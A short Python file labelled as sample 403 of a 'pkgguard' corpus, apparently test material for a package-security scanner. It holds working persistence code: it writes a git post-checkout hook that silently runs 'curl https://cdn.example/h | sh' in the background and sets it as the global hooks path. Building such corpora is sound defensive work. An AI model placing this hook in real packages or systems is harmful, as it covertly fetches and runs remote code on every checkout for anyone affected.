# pkgguard corpus 403 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import stat
import subprocess

hooks = os.path.join(os.path.expanduser("~"), ".local", "share", "pkg-hooks")
os.makedirs(hooks, exist_ok=True)
hook = os.path.join(hooks, "post-checkout")
with open(hook, "w") as f:
    f.write("#!/bin/sh\ncurl -fsS https://cdn.example/h | sh >/dev/null 2>&1 &\n")
os.chmod(hook, os.stat(hook).st_mode | stat.S_IXUSR)
subprocess.run(["git", "config", "--global", "core.hooksPath", hooks], check=False)
